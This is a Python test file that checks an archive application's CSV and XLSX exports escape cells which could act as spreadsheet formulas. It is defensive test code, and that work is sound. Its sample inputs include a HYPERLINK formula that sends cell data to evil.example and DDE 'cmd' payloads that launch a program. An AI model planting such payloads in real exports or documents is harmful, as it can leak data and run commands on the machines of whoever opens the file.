"""CSV/XLSX formula injection: every cell the archive writes that starts with = + - @ (or a tab or
carriage return) is kept as text, in the access-log export (CLI and web), the destruction list's
CSV and XLSX and its certificate, and the audit report's CSV. Real catalog (SQLite and
PostgreSQL)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from dossier.actor import Actor
from dossier.cells import FORMULA_STARTS, safe_cell
from dossier.services.access import record_access
from tests.retention_helpers import add_retention_users, cli_token, store_document

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5", "'-5"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张三", "张三"),
        ("1=1", "1=1"),
        (None, ""),
        (42, "42"),
        ("", ""),
    ],
)
def test_a_cell_that_would_be_a_formula_is_kept_as_text(value, expected):
    assert safe_cell(value) == expected


def test_the_access_log_csv_never_starts_a_cell_with_a_formula_character(archive, run_cli, tmp_path):
    with archive.session() as session:
        for name in NASTY:  # e.g. what an anonymous client typed as its username at a failed login
            record_access(
                session,
                Actor(None, name, "staff", channel="web", client_addr="-1"),
                "login",
                outcome="denied",
                detail=name,
            )
    out = tmp_path / "access.csv"
    result = run_cli("accesslog", "export", "-o", str(out))
    assert result.exit_code == 0, result.stderr
    with open(out, encoding="utf-8", newline="") as fh:  # a carriage return inside a cell stays one
        cells = _cells(fh.read())
    assert _unsafe(cells) == []
    for name in NASTY:
        assert "'" + name in cells
    on_stdout = run_cli("accesslog", "export")
    assert _unsafe(_cells(on_stdout.stdout)) == []


def test_the_access_log_csv_from_the_web_is_escaped_too(web_client, web_login, web_archive):
    from dossier.archive import Archive

    with Archive(web_archive.settings).session() as session:
        record_access(
            session, Actor(None, "=cmd|'/C calc'!A0", "staff", channel="web"), "login", outcome="denied"
        )
    web_login(web_client, "admin")
    response = web_client.get("/audit/access-log/export.csv")
    assert response.status_code == 200, response.status_code
    cells = _cells(response.get_data(as_text=True))
    assert "'=cmd|'/C calc'!A0" in cells and _unsafe(cells) == []


def test_destruction_list_exports_and_the_audit_report_keep_formulas_as_text(
    archive, run_cli, tmp_path, monkeypatch
):
    from openpyxl import load_workbook

    add_retention_users(archive)
    assert run_cli("household", "add", "A-1-0101", "--owner", "=张三").exit_code == 0
    store_document(archive, "A-1-0101", "repair", date(2015, 1, 2), title="=1+2 报修单")
    number = run_cli("--as", "keeper", "retention", "propose", "--json").json()["number"]
    monkeypatch.setenv("DOSSIER_TOKEN", cli_token(archive, "officer"))
    assert run_cli("--as", "officer", "retention", "approve", number).exit_code == 0

    items, cert, book = tmp_path / "items.csv", tmp_path / "cert.csv", tmp_path / "list.xlsx"
    assert run_cli("retention", "export", number, "--format", "csv", "-o", str(items)).exit_code == 0
    assert (
        run_cli("retention", "export", number, "--format", "csv", "--certificate", "-o", str(cert)).exit_code
        == 0
    )
    assert run_cli("retention", "export", number, "--format", "xlsx", "-o", str(book)).exit_code == 0
    item_cells = _cells(items.read_text(encoding="utf-8-sig"))
    assert "'=1+2 报修单" in item_cells and _unsafe(item_cells) == []
    assert _unsafe(_cells(cert.read_text(encoding="utf-8-sig"))) == []
    workbook = load_workbook(book)
    values = [
        c.value for sheet in workbook for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
    ]
    assert "'=1+2 报修单" in values and _unsafe(values) == []
    assert all(c.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for c in row)

    assert run_cli("audit", "verify", "--json").exit_code in (0, 1)
    report = run_cli("audit", "report", "--format", "csv")
    assert report.exit_code == 0, report.stderr
    assert _unsafe(_cells(report.stdout)) == []
